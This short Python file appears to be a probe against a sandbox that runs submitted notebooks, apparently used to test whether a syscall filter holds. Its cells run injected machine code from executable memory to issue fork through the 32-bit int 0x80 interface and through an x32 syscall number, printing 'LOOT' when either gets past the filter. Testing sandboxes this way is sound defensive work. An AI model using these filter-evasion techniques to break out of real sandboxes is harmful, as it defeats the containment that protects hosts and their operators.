"""Make system calls by the 32-bit interface and the x32 numbers, which a filter may forget.

Against: no submission reaches the host.
"""
# stock: would harm nothing but its own notebook

# %% after conv-output-shape
import ctypes
import mmap

fork_32 = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"
memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
memory.write(fork_32)
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
print("LOOT", ctypes.CFUNCTYPE(ctypes.c_int)(address)())

# %% after fc-parameters
import ctypes

print("LOOT" if ctypes.CDLL(None).syscall(0x40000000 + 57) >= 0 else "")
